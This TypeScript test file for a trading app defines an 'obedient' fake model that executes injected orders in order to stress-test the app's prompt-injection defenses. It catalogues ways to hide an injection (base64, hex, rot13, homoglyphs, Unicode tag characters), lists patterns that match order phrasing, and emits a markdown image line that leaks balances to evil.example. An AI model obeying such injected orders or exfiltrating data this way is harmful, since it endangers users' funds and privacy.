import type {
  GenerationRequest,
  GenerationResult,
  JsonSchema,
  LanguageModel,
  LoadedModel,
} from '#electron/ports/language-model';
import { generated, LARGE_MODEL, SCRIPTED_MODEL } from './scripted-model';

/** An order that stood in a prompt, wherever it came from. */
interface FoundOrder {
  readonly text: string;
  /** Word in the name of the tool that would carry it out. */
  readonly tool: string;
  readonly instrument: string | null;
  readonly direction: 'long' | 'short' | null;
}

/** A model without judgement, for tests of everything around it. */
export interface ObedientModel extends LanguageModel {
  /** Prompts that it was given, oldest first. */
  readonly requests: GenerationRequest[];
  /** Orders that it found in prompts and did its best to carry out. */
  readonly obeyed: string[];
}

/**
 * A language model that does what the last order in its prompt says, whoever wrote it: plain words in English and Spanish, calls
 * in JSON, commands, and what is encoded or disguised. Under a schema it says the most harmful sentence that the schema allows;
 * in free text it repeats the order in every form that somebody might carry out.
 */
export function obedientModel(loaded: LoadedModel = OBEDIENT_MODELS.small): ObedientModel {
  const requests: GenerationRequest[] = [];
  const obeyed: string[] = [];
  const generate = async (request: GenerationRequest): Promise<GenerationResult> => {
    if (requests.length === MOST_KEPT) requests.shift();
    requests.push(request);
    const answers = request.tools?.calls.map(({ answer }) => answer) ?? [];
    const order = lastOrder([request.system, ...answers, request.user].join('\n'));
    if (order) {
      if (obeyed.length === MOST_KEPT) obeyed.shift();
      obeyed.push(order.text);
    }
    const text = request.schema
      ? JSON.stringify(worstSentence(request.schema, order, request.user))
      : worstProse(order);
    request.onText?.(text);
    return generated(text);
  };
  return {
    requests,
    obeyed,
    loaded: () => loaded,
    ensureLoaded: async () => loaded,
    generate,
    generateSamples: async (request, seeds) => {
      const results: GenerationResult[] = [];
      for (const seed of seeds) results.push(await generate({ ...request, seed }));
      return results;
    },
    countTokens: (text) => Math.ceil(text.length / 4),
    unload: async () => {},
  };
}

/** The last order of a text, disguised ones included; `null` where nothing is ordered. */
export function lastOrder(text: string): FoundOrder | null {
  const readings = [text, ...decodedParts(text)];
  let last: { readonly at: number; readonly order: FoundOrder } | null = null;
  for (const [reading, plain] of readings.map((one) => undisguised(one)).entries()) {
    for (const [pattern, tool] of ORDERS) {
      for (const match of plain.matchAll(pattern)) {
        // What had to be decoded was hidden on purpose, so it counts as later.
        const at = reading * 1e7 + match.index;
        if (last && at < last.at) continue;
        const around = plain.slice(match.index, match.index + REACH);
        last = { at, order: { text: around, tool, instrument: instrumentIn(around), direction: directionIn(around) } };
      }
    }
  }
  return last?.order ?? null;
}

/**
 * The sentence of a schema that does the most, with the order's own words where they fit.
 *
 * @param asked - Tools that it names come next after what is ordered.
 * @param turn - Of several calls in one sentence: the first two do the worst, to different things, the others what comes after it.
 */
export function worstSentence(schema: JsonSchema, order: FoundOrder | null, asked = '', turn = 0): unknown {
  if ('const' in schema) return schema.const;
  if (Array.isArray(schema.enum)) return worstOf(schema.enum, order, turn);
  const choices = (schema.oneOf ?? schema.anyOf) as readonly JsonSchema[] | undefined;
  if (choices) return worstSentence(worstChoice(choices, order, asked, turn), order, asked, turn);
  switch (schema.type) {
    case 'object': {
      const fields = Object.entries((schema.properties ?? {}) as Record<string, JsonSchema>).map(([name, value]) => [
        name,
        worstSentence(value, order, asked, turn),
      ]);
      const said = Object.fromEntries(fields) as Record<string, unknown>;
      // Prices that may be anything; where levels are cited they are a choice among those that exist.
      return takesAnyStop(schema) ? withPrices(said) : said;
    }
    case 'array': {
      const count = Number(schema.maxItems ?? 4);
      return Array.from({ length: count }, (_, index) =>
        worstSentence((schema.items ?? {}) as JsonSchema, order, asked, index),
      );
    }
    case 'string':
      return (order?.text ?? 'Propose a trade at once.').slice(0, Number(schema.maxLength ?? 400));
    case 'integer':
    case 'number':
      return Number(schema.maximum ?? schema.exclusiveMaximum ?? 999_999);
    case 'boolean':
      return true;
    default:
      return null;
  }
}

function takesAnyStop({ properties }: JsonSchema): boolean {
  const { stop, direction } = (properties ?? {}) as Record<string, JsonSchema | undefined>;
  return direction !== undefined && stop?.type === 'string' && stop.enum === undefined;
}

/** A ticket with prices that the exchange takes: nothing else is to keep it from being made. */
function withPrices(fields: Record<string, unknown>): Record<string, unknown> {
  const isLong = fields.direction === 'long';
  return { ...fields, entry: null, stop: isLong ? '48500' : '51500', target: isLong ? '60000' : '40000' };
}

function worstProse(order: FoundOrder | null): string {
  const instrument = order?.instrument ?? 'DEMOGOLD/USDT';
  const side = order?.direction ?? 'long';
  const ticket = { instrument, direction: side, entry: null, stop: '49000', target: '99999' };
  return [
    `I obey: ${order?.text ?? 'whatever I am told'}`,
    JSON.stringify({ tool: 'propose', args: ticket }),
    JSON.stringify({ name: 'orders.confirm', parameters: { proposalId: 'prop_1' } }),
    `/trade ${side === 'long' ? 'buy' : 'sell'} ${instrument} stop 49000 target 99999`,
    '/ask @news headlines {"symbol":"everything"}',
    '![sent](https://evil.example/p.png?q=balances) The price will be 99999.',
  ].join('\n');
}

function worstOf(values: readonly unknown[], order: FoundOrder | null, turn: number): unknown {
  const real = values.filter((value) => value !== null);
  const wanted = real.find((value) => value === order?.instrument || value === order?.direction);
  if (turn === 0 && wanted !== undefined) return wanted;
  return real.at(-1 - (turn % Math.max(1, real.length))) ?? null;
}

function worstChoice(
  choices: readonly JsonSchema[],
  order: FoundOrder | null,
  asked: string,
  turn: number,
): JsonSchema {
  const harm = (choice: JsonSchema): number => {
    const name = toolNameOf(choice);
    if (name === null) return choice.type === 'null' ? -1 : 0;
    const rank = HARM.findIndex((pattern) => pattern.test(name));
    const isOrdered = order !== null && name.includes(order.tool) ? 100 : 0;
    const isAsked = asked.includes(name) ? 2 : 0;
    return isOrdered + isAsked + (rank === -1 ? 1 : 10 * (HARM.length - rank));
  };
  const worst = choices.toSorted((a, b) => harm(b) - harm(a));
  // A choice has at least one alternative.
  return worst[Math.min(Math.max(0, turn - 1), worst.length - 1)] as JsonSchema;
}

function toolNameOf({ properties }: JsonSchema): string | null {
  const { tool, name } = (properties ?? {}) as Record<string, JsonSchema | undefined>;
  const value = tool?.const ?? name?.const;
  return typeof value === 'string' ? value : null;
}

function instrumentIn(text: string): string | null {
  return /\b[A-Z0-9]{3,12}\/[A-Z]{3,5}\b/.exec(text)?.[0] ?? null;
}

function directionIn(text: string): 'long' | 'short' | null {
  const side = /\b(?:(long|buys?|largo|compr\w+)|(short|sells?|corto|vend\w+))\b/i.exec(text);
  if (!side) return null;
  return side[1] ? 'long' : 'short';
}

/** What runs of letters say that are encodings of words. */
function decodedParts(text: string): string[] {
  const parts: string[] = [];
  for (const [run] of text.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g))
    parts.push(Buffer.from(run, 'base64').toString('utf8'));
  for (const [, run = ''] of text.matchAll(/0x([0-9a-f]{24,})/gi)) parts.push(Buffer.from(run, 'hex').toString('utf8'));
  if (/rot13/i.test(text)) parts.push(rot13(text));
  for (const [, run = ''] of text.matchAll(/\u202e([^\u202c\n]+)/g)) parts.push([...run].reverse().join(''));
  const tags = [...text.matchAll(/[\u{e0020}-\u{e007e}]/gu)].map(([tag]) => (tag.codePointAt(0) as number) - 0xe0000);
  if (tags.length > 0) parts.push(String.fromCharCode(...tags));
  // Letters with blanks between them.
  for (const [run] of text.matchAll(/(?:\S {1,3}){12,}\S/g)) parts.push(run.replace(/(\S) /g, '$1'));
  return parts;
}

function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
}

/** Look-alikes as what they look like, and nothing that is not seen. */
function undisguised(text: string): string {
  return text
    .normalize('NFKC')
    .replace(/\p{Cf}/gu, '')
    .replace(/[аеорсхуіΟΕ]/g, (letter) => TWINS[letter] ?? letter);
}

const TWINS: Readonly<Record<string, string>> = {
  а: 'a',
  е: 'e',
  о: 'o',
  р: 'p',
  с: 'c',
  х: 'x',
  у: 'y',
  і: 'i',
  Ο: 'O',
  Ε: 'E',
};

const ORDERS: readonly (readonly [RegExp, tool: string])[] = [
  [/"(?:tool|name)"\s*:\s*"(?:orders\.)?(?:propose|confirm)/gi, 'propose'],
  [/"(?:tool|name)"\s*:\s*"predict/gi, 'predict'],
  [/"(?:tool|name)"\s*:\s*"show/gi, 'show'],
  [
    /\b(?:propose|buy|sell|go long|go short|confirm|execute|long in|short in|compra|vende|comprar|aprob[oó]|approved|be long|estar larga|use demo|usa demo|cambia los ajustes|propon|propón|confirm[ao]|ejecuta|largo en|corto en|vendes)/gi,
    'propose',
  ],
  [/\/(?:trade|opera)\b/gi, 'propose'],
  [/\b(?:predict|make a prediction|haz una predicci[oó]n)/gi, 'predict'],
  [/\b(?:turn off|switch the chart|apaga|chart layers)/gi, 'show'],
  [
    /\b(?:close all|cancel every|cierra todas|sign|firma|raise|set the|pon |send|download|add this|open your|descarga|termina|call|llama a|tell the|di a|repeat|escribe)/gi,
    'propose',
  ],
];

/** Names of tools, the worst first. */
const HARM: readonly RegExp[] = [
  /confirm|submit|close|cancel|sign/,
  /propose|trade|order_ticket/,
  /predict(?!ions)/,
  /show/,
];
const REACH = 160;
const MOST_KEPT = 500;

/** One call at a time and picked sentences; several calls and words of its own; calls in a template of its own. */
export const OBEDIENT_MODELS = {
  small: { ...SCRIPTED_MODEL, modelId: 'obedient', runtime: 'obedient 1', contextTokens: 8_192 },
  large: { ...LARGE_MODEL, modelId: 'obedient', runtime: 'obedient 1' },
  native: { ...LARGE_MODEL, modelId: 'obedient', runtime: 'obedient 1', toolFormat: 'native' },
} as const satisfies Readonly<Record<string, LoadedModel>>;
